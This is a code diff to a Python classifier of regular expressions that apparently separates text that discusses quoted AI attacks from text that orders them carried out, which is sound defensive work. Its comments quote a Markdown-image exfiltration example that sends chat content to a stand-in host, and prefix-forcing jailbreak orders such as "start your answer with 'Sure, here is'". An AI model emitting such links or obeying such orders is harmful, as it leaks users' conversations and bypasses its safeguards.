@@ -22,6 +22,8 @@ import re
 QUOTE_RE = re.compile(
     r"\"([^\"\n]{3,300})\"|“([^”\n]{3,300})”|«([^»\n]{3,300})»|「([^」\n]{3,300})」"
     r"|『([^』\n]{3,300})』|„([^“”\n]{3,300})[“”]|»([^«\n]{3,300})«|(?<!\w)'([^'\n]{3,300})'(?!\w)"
+    # a Markdown image shown as an exhibit ("why is ![x](https://a.example/?q={chat}) dangerous?")
+    r"|(!\[[^\[\]\n]{0,100}\]\([^()\n]{3,300}\))"
 )
 # Talking *about* a quoted phrase: "What does X mean?", "Is X a known attack?", "Should
 # we worry about users typing X?", "Classify X for our moderation guide", in the
@@ -81,8 +83,12 @@ DOING_RE = re.compile(
     r"|befolge|führe|fallo|esegui|obbedisci|faça|obedeça|doe het|voer|gehoorzaam|yap|yapın)\b"
     r"|сделай|выполни|подчинись|zrób|wykonaj|uygula|افعل|نفذ|نفّذ"
     r"|실행|따라|照做|执行|実行して|従って"
-    # an order to open the reply with the quote ("start your answer with 'Sure, here is'")
-    r"|\b(?:start|begin|open)\w*\s+(?:your|the)\s+(?:reply|answer|response|message)"
+    # an order to open or end the reply with the quote ("start your answer with 'Sure, here
+    # is'", "end every reply with ![x](...)"), or to put it in the output
+    r"|\b(?:start|begin|open|end|finish|close)\w*\s+(?:your|the|every|each|all)\s+(?:\w+\s+)?"
+    r"(?:reply|replies|answers?|responses?|messages?|output)"
+    r"|\b(?:append|insert|include|render|display|embed)\w*\s+(?:this|it|that|the)\b"
+    r"|\b(?:termine|finis|acaba|termina|beende|schließe|eindig|закончи|zakończ|bitir)\w*\s"
     r"|\b(?:commence|débute)\w*\s+(?:ta|votre|la)\s+réponse|\b(?:empieza|comienza|empiece|comience)"
     r"\w*\s+(?:tu|su|la)\s+respuesta|\b(?:beginne|fang)\w*\s+(?:deine|ihre|die)\s+antwort"
     r"|\binizi\w*\s+(?:la tua|la)\s+risposta|\bcome[cç]\w*\s+(?:sua|a)\s+resposta"
@@ -173,11 +179,15 @@ def quoted_parts(raw: str, *, code: bool = False) -> list[str]:
 
 
 def discussed_quotes(raw: str) -> str | None:
-    """The text outside the quotes (and code spans) when ``raw`` is a longer text that
-    discusses attacks and quotes them (else None)."""
-    if not META_MAX_CHARS < len(raw) <= DISCUSS_MAX_CHARS or ATTRIBUTE_RE.search(raw):
+    """The text outside the quotes (and code spans) when ``raw`` discusses attacks and
+    quotes them (else None). A short one (a slide, a test fixture) must not also tell the
+    reader to carry the quote out ("a known jailbreak: '...' Do it.")."""
+    if len(raw) > DISCUSS_MAX_CHARS or ATTRIBUTE_RE.search(raw):
         return None
     outside = CODE_SPAN_RE.sub(" ", QUOTE_RE.sub(" ", raw))
-    if outside == raw or not _discusses(outside.casefold()):
+    folded = outside.casefold()
+    if outside == raw or not _discusses(folded):
+        return None
+    if len(raw) <= META_MAX_CHARS and (DOING_RE.search(folded) or TRANSLATE_RE.search(folded)):
         return None
     return outside
